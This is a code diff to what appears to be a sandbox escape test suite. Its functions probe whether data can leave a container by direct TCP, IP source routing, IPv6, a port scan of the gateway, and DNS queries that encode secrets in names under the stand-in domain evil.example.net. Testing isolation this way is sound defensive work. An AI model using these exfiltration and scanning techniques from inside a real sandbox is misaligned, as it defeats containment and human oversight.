@@ -89,7 +89,7 @@ def _default_router() -> str:
 
 @attack(EXFILTRATION, NO_WAY_OUT, NOTHING, cage="allow")
 def straight_by_tcp() -> str:
-    """unset the proxy's variables and connect to an address outside, even an allowed host's"""
+    """connect to an address outside, even an allowed host's"""
     return _tcp((OTHER, 443), (SERVER, 443))
 
 
@@ -153,7 +153,7 @@ def host_on_the_link() -> str:
 )
 def source_route() -> str:
     """route each packet through the gateway (IP source routing)"""
-    through = _gateway()[0]
+    through = _gateway()
 
     def route(sock: socket.socket) -> None:
         hops = socket.inet_aton(through) + socket.inet_aton(OTHER)
@@ -162,9 +162,8 @@ def source_route() -> str:
     return _tcp((through, 443), (OTHER, 443), prepare=route)
 
 
-def _gateway() -> tuple[str, int]:
-    host, _, port = os.environ["HTTP_PROXY"].removeprefix("http://").rstrip("/").rpartition(":")
-    return host, int(port)
+def _gateway() -> str:
+    return os.environ.get("GATEWAY") or socket.gethostbyname("api.example.com")
 
 
 @attack(EXFILTRATION, "sandbox networks and interfaces have no IPv6", "EADDRNOTAVAIL|ENETUNREACH|ENODEV",
@@ -177,15 +176,20 @@ def by_ipv6() -> str:
         return won(sock.recvfrom(999))
 
 
-@attack(EXFILTRATION, "a gateway listens on one port only", "no open port", cage="allow")
+@attack(
+    EXFILTRATION,
+    "a gateway listens for names and on the listed ports, and does nothing else",
+    "no open port",
+    cage="allow",
+)
 def other_ports_of_the_gateway() -> str:
     """look for other services on the gateway's machine"""
-    host, port = _gateway()
+    host, listed = _gateway(), (53, 80, 443, TCP)
     open_ports = []
-    for other in (*range(1, 1100), 2375, 2376, 5355, TCP, 8080, 9000):
+    for other in (*range(1, 1100), 2375, 2376, 5355, 8080, 8443, 9000):
         with socket.socket() as sock:
             sock.settimeout(0.5)
-            if other != port and sock.connect_ex((host, other)) == 0:
+            if other not in listed and sock.connect_ex((host, other)) == 0:
                 open_ports.append(other)
     return won(open_ports) if open_ports else held("no open port")
 
@@ -205,17 +209,19 @@ def _ask(server: str, name: str) -> str:
         except TimeoutError:
             return held("no answer")
     code = answer[3] & 15
-    return held(f"answer {code} (no server could be asked)") if code in (2, 5) else won(f"answer {code}")
+    if code in (2, 5) or (code == 3 and not os.environ.get("WEAK")):
+        return held(f"answer {code} (no such name for a sandbox; no server outside was asked)")
+    return won(f"answer {code}")
 
 
-@attack(EXFILTRATION, "dns is disabled: that resolver forwards to nothing", f"{NOTHING}|answer 2|ECONNREFUSED",
+@attack(EXFILTRATION, "that resolver asks the gateway, and the gateway nobody", f"{NOTHING}|answer [23]|ECONNREFUSED",
         cage="allow")  # fmt: skip
 def names_by_the_engines_resolver() -> str:
     """encode it in a name and query the engine's resolver, which forwards queries (127.0.0.11)"""
     return _ask("127.0.0.11", "secret-one.evil.example.net")
 
 
-@attack(EXFILTRATION, "dns is disabled: resolv.conf names no outside server", f"{NOTHING}|answer 2|ECONNREFUSED",
+@attack(EXFILTRATION, "the gateway answers from the list, and asks nobody", f"{NOTHING}|answer [23]|ECONNREFUSED",
         cage="allow")  # fmt: skip
 def names_by_resolv_conf() -> str:
     """the same through the servers in resolv.conf"""
@@ -231,7 +237,7 @@ def names_by_a_server_outside() -> str:
     return _ask(NAMES, "secret-three.evil.example.net")
 
 
-@attack(EXFILTRATION, "dns is disabled: the gateway resolves allowed names", "gaierror", cage="allow")
+@attack(EXFILTRATION, "a name that is not listed does not exist, and nobody is asked for it", "gaierror", cage="allow")
 def names_by_the_library() -> str:
     """let the C library resolve a name that carries something out"""
     os.environ["RES_OPTIONS"] = "timeout:1 attempts:1"
